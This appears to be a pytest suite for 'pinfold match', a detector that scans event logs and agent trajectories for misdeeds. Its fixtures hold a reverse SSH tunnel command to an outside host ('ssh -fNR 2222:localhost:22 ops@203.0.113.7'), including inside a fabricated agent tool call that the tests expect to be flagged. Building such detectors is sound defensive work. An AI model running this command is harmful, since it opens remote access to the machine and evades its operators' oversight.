from __future__ import annotations

import io
import json
import os
import sys
import threading
from types import SimpleNamespace

import pytest

TUNNEL = {"kind": "exec", "Image": "/usr/bin/ssh", "CommandLine": "ssh -fNR 2222:localhost:22 ops@203.0.113.7"}
QUIET = {"kind": "exec", "Image": "/usr/bin/git", "CommandLine": "git status --short"}


def lines(*values) -> str:
    return "".join(value if isinstance(value, str) else json.dumps(value) + "\n" for value in values)


def rollout(command):
    function = {"name": "bash", "arguments": json.dumps({"command": command})}
    call = {"id": "1", "type": "function", "function": function}
    return {
        "id": "r1",
        "messages": [{"role": "user", "content": "Go."}, {"role": "assistant", "content": None, "tool_calls": [call]}],
    }


@pytest.fixture
def events(tmp_path):
    """A function that writes events, or lines as they are, and returns the file."""

    def events(*values, name="events.jsonl"):
        path = tmp_path / name
        path.write_text(lines(*values), "utf-8")
        return path

    return events


@pytest.fixture
def match(pinfold):
    """Judge, and return the exit code and the JSON report."""

    def match(*arguments):
        done = pinfold("match", "--format", "json", *arguments)
        return done.code, json.loads(done.out)

    return match


def test_0_nothing_was_found(match, events):
    code, report = match(events(QUIET))
    assert code == 0
    (material,) = report["material"]
    assert (material["lens"], material["judged"], material["complete"], material["findings"]) == ("live", 1, True, [])


def test_1_something_was_found(match, events):
    code, report = match(events(QUIET, TUNNEL))
    assert code == 1
    finding = next(one for one in report["material"][0]["findings"] if one["rule"] == "reverse-tunnel")
    assert (finding["evidence"][0]["line"], finding["evidence"][0]["step"]) == (2, 1)
    assert finding["evidence"][0]["certainty"] == "observed"


def test_2_a_line_could_not_be_read(match, events):
    code, report = match(events(QUIET, "not json\n"))
    assert (code, report["material"][0]["complete"]) == (2, False)
    assert report["material"][0]["unread"][0]["path"].endswith("events.jsonl:2")


def test_1_before_2(match, events):
    assert match(events("not json\n", TUNNEL))[0] == 1


def test_an_empty_file_is_no_misdeed(match, events):
    assert match(events())[0] == 0


@pytest.mark.parametrize(("fail_on", "code"), [("critical", 1), ("high", 1), ("medium", 1), ("low", 1)])
def test_a_critical_finding_reaches_every_line(match, events, fail_on, code):
    assert match("--fail-on", fail_on, events(TUNNEL))[0] == code


def test_fail_on_says_where_the_line_is(match, events, own_rules):
    file = events({"kind": "exec", "CommandLine": "go amberword"})
    assert match("--rules", own_rules, file)[0] == 1
    assert match("--rules", own_rules, "--fail-on", "high", file)[0] == 0
    assert match(file)[0] == 0


@pytest.mark.parametrize(
    ("arguments", "told"),
    [([], "FILE"), (["missing.jsonl"], "missing.jsonl"), (["."], "."), (["--lens", "x"], "--lens")],
)
def test_2_the_request_cannot_be_carried_out(pinfold, arguments, told):
    done = pinfold("match", *arguments)
    assert (done.code, done.out) == (2, "")
    assert told in done.err


def test_one_missing_file_stops_it_before_it_says_anything(pinfold, events):
    done = pinfold("match", "--format", "json", events(TUNNEL), "missing.jsonl")
    assert (done.code, done.out) == (2, "")


def test_trajectories_are_judged_by_what_the_agent_did(match, events):
    code, report = match("--trajectory", events(rollout("ssh -fNR 2222:localhost:22 ops@203.0.113.7")))
    assert code == 1
    assert report["material"][0]["lens"] == "record"
    assert report["material"][0]["findings"][0]["evidence"][0]["step"] == 1
    assert match("--trajectory", events(rollout("git status")))[0] == 0


def test_each_file_has_its_report(match, events):
    code, report = match(events(QUIET, name="a.jsonl"), events(TUNNEL, name="b.jsonl"))
    assert code == 1
    assert [bool(one["findings"]) for one in report["material"]] == [False, True]
    assert report["summary"]["material"] == 2


def test_standard_input_is_a_file_too(pinfold, monkeypatch):
    given = SimpleNamespace(buffer=io.BytesIO(lines(QUIET, TUNNEL).encode()))
    monkeypatch.setattr(sys, "stdin", given)
    done = pinfold("match", "-")
    assert done.code == 1
    assert "reverse-tunnel" in done.out


def test_a_pipe_is_read_once(match, tmp_path):
    """As in ``pinfold match <(collector)``."""
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    writer = threading.Thread(target=lambda: pipe.write_text(lines(TUNNEL)))
    writer.start()
    code, _report = match(pipe)
    writer.join()
    assert code == 1


def test_text_shows_the_act_and_its_step(pinfold, events):
    done = pinfold("match", events(QUIET, TUNNEL))
    for told in ("reverse-tunnel", "(step 1)", "ssh -fNR 2222:localhost:22 ops@203.0.113.7", "observed", "acts judged"):
        assert told in done.out


def test_hostile_words_cannot_touch_the_terminal(pinfold, events):
    done = pinfold("match", events({**TUNNEL, "CommandLine": TUNNEL["CommandLine"] + " \x1b[2J\u202e"}, "\x1b[2J\n"))
    assert done.code == 1
    assert not {"\x1b", "\u202e"} & set(done.out + done.err)


def test_a_report_goes_to_a_file_when_told_so(pinfold, events, tmp_path):
    done = pinfold("match", "--format", "json", "--output", tmp_path / "out.json", events(TUNNEL))
    assert (done.code, done.out) == (1, "")
    assert json.loads((tmp_path / "out.json").read_text("utf-8"))["summary"]["material"] == 1


@pytest.mark.parametrize(("options", "line"), [([], rollout("ls")), (["--trajectory"], QUIET)])
def test_a_file_of_the_other_sort_is_told_from_a_broken_one(pinfold, events, options, line):
    done = pinfold("match", *options, events(line))
    assert done.code == 2
    assert done.err.startswith("note: nothing in ")
    assert "--trajectory its lines are read as " in done.err
